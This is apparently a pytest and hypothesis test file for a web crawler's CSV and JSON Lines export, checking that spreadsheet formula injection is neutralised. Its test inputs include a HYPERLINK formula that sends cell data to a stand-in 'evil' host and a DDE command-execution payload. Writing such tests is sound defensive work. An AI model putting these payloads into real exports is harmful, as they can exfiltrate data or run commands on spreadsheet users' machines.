"""Rows as records and lines: what JSON and CSV readers, and spreadsheets, will see."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shoal.core.spec import read_spec
from shoal.output.formats import LINES
from shoal.store.export import (
    DEAD_COLUMNS,
    PAGE_COLUMNS,
    STORED_OF_PAGE,
    Csv,
    JsonLines,
    Record,
    dead_record,
    encoder,
    iso,
    item_columns,
    item_record,
    page_record,
)
from shoal.store.items import ItemRow
from shoal.store.page_rows import DeadLetter, PageRow

PAGE = PageRow(
    job="j",
    fingerprint=-1,
    url="http://a/",
    host="a",
    status=200,
    depth=2,
    attempt=0,
    content_type="text/html; charset=utf-8",
    charset="utf-8",
    size=1234,
    elapsed_ms=56.7,
    fetched_ms=1_700_000_000_123,
    redirect=None,
    canonical="http://a/c",
)
LETTER = DeadLetter("j", -1, "http://a/", "a", "dead", "http_503", "busy, later", 3, 4, 1_700_000_000_000)


def table(columns: list[str], records: Iterable[Record]) -> list[list[str]]:
    """What a CSV reader finds."""
    lines = Csv(columns)
    text = lines.head() + lines.encode(records)
    return list(csv.reader(io.StringIO(text, newline="")))


def cell(value: Any) -> str:
    """What a CSV reader finds in the only cell of a record."""
    header, row = table(["x"], [{"x": value}])
    assert header == ["x"]
    return row[0] if row else ""


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        '=HYPERLINK("http://evil/"&A1)',
        "+1",
        "-1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "=",
        "- a list item",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "\x00=1",
        "\n=1",
        "\uff1d1+1",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_made_harmless(formula: str) -> None:
    assert cell(formula) == "'" + formula


@pytest.mark.parametrize(
    "text",
    [
        "1=1",
        "a+b",
        "a-b",
        "x@y.example",
        "'=1",
        "£5.00",
        "",
        "a,b",
        'say "hi"',
        "two\nlines",
        "two\r\nlines",
        "[1]",
    ],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(
    "text", ["größer", "表紙の美しい本", "👨‍👩‍👧", "עברית", "e\u0301", "\u2028", "\ufeffx", "nul\x00nul"]
)
def test_any_character_survives_both_formats(text: str) -> None:
    assert table(["x"], [{"x": text}]) == [["x"], [text]]
    (line,) = JsonLines().encode([{"x": text}]).removesuffix("\n").split("\n")
    assert json.loads(line) == {"x": text}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (["a", "b"], '["a","b"]'),
        ([], "[]"),
        (["größer", 'a "b", c'], '["größer","a \\"b\\", c"]'),
        (["=1+1"], '["=1+1"]'),
        ({"a": [1, None]}, '{"a":[1,null]}'),
        (None, ""),
        (-5, "-5"),
        (0, "0"),
        (1.5, "1.5"),
        (True, "True"),
    ],
)
def test_lists_are_json_in_a_cell_and_numbers_stay_numbers(value: Any, written: str) -> None:
    assert cell(value) == written


def test_csv_has_its_columns_in_order_whatever_the_records_hold() -> None:
    lines = Csv(["b", "a"])
    assert lines.head() == "b,a\r\n"
    assert lines.encode([{"a": 1, "b": 2}, {"a": 3, "other": 4}]) == "2,1\r\n,3\r\n"
    assert lines.encode([{}]) == ",\r\n"
    assert lines.encode([]) == ""


def test_json_lines_are_one_object_a_line() -> None:
    lines = JsonLines()
    assert lines.head() == ""
    assert (
        lines.encode([{"a": "x\ny", "b": ["é", None, 1.5, True]}, {}]) == '{"a":"x\\ny","b":["é",null,1.5,true]}\n{}\n'
    )
    assert lines.encode([]) == ""


@pytest.mark.parametrize("kind", LINES)
def test_every_format_has_its_encoder(kind: str) -> None:
    lines = encoder(kind, ["x"])
    assert isinstance(lines, Csv if kind == "csv" else JsonLines)
    assert lines.encode(iter([{"x": 1}, {"x": 2}])).count("\n") == 2


def test_an_item_is_its_page_and_its_fields() -> None:
    spec = read_spec({"fields": {"title": "h1", "tags[]": ".tag"}})
    item = ItemRow("j", -1, 0, "http://a/", {"title": "T", "tags": ["x"]})
    assert item_columns(spec) == ("url", "title", "tags")
    assert item_record(item) == {"url": "http://a/", "title": "T", "tags": ["x"]}


def test_a_page_record_has_the_columns_and_a_readable_time() -> None:
    record = page_record([getattr(PAGE, name) for name in STORED_OF_PAGE])
    assert set(record) == set(PAGE_COLUMNS)
    assert [record[name] for name in PAGE_COLUMNS] == [
        *("http://a/", 200, 2, "text/html; charset=utf-8", 1234, 56.7),
        *("2023-11-14T22:13:20.123+00:00", None, "http://a/c", "f" * 16, None, None),
    ]


def test_a_dead_letter_has_the_columns_and_a_readable_time() -> None:
    record = dead_record(LETTER)
    assert set(record) == set(DEAD_COLUMNS)
    assert [record[name] for name in DEAD_COLUMNS] == [
        *("http://a/", "dead", "http_503", "busy, later", 4, 3, "2023-11-14T22:13:20.000+00:00"),
    ]


@pytest.mark.parametrize(
    ("ms", "written"),
    [
        (0, "1970-01-01T00:00:00.000+00:00"),
        (1, "1970-01-01T00:00:00.001+00:00"),
        (2**40, "2004-11-03T19:53:47.776+00:00"),
    ],
)
def test_a_time_is_iso_in_utc(ms: int, written: str) -> None:
    assert iso(ms) == written


ANY_TEXT = st.text(st.characters(codec=None)) | st.text(
    st.sampled_from("=+-@\t\r\n ,\"'\x00\ud800\udfff\u2028\ufffeé🙂")
)
"""Also halves of characters, which no file can hold."""


def _stored(text: str) -> str:
    """As any reader gets it back: halves of characters are lost."""
    return "".join("\ufffd" if "\ud800" <= char <= "\udfff" else char for char in text)


@settings(max_examples=300)
@given(ANY_TEXT)
def test_whatever_text_there_is_an_export_is_valid_and_tells_it_again(text: str) -> None:
    record = {"x": text, "list": [text, {"deep": text}], text: 1}
    written = JsonLines().encode([record, record]).encode()
    assert len(written.splitlines()) == len(written.decode().splitlines()) == 2
    found = json.loads(written.splitlines()[0])
    kept = _stored(text)
    assert found.get(kept) == 1
    if kept not in ("x", "list"):
        assert (found["x"], found["list"]) == (kept, [kept, {"deep": kept}])


@settings(max_examples=300)
@given(ANY_TEXT, ANY_TEXT)
def test_whatever_text_there_is_a_table_keeps_its_cells(name: str, text: str) -> None:
    lines = Csv([name, "other"])
    written = (lines.head() + lines.encode([{name: text, "other": "y"}])).encode().decode()
    (first, _), row = csv.reader(io.StringIO(written, newline=""))
    assert row[0].removeprefix("'") == _stored(text).removeprefix("'") or name == "other"
    for cell in (first, row[0]):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
        assert not cell.lstrip().startswith(("=", "+", "-", "@"))
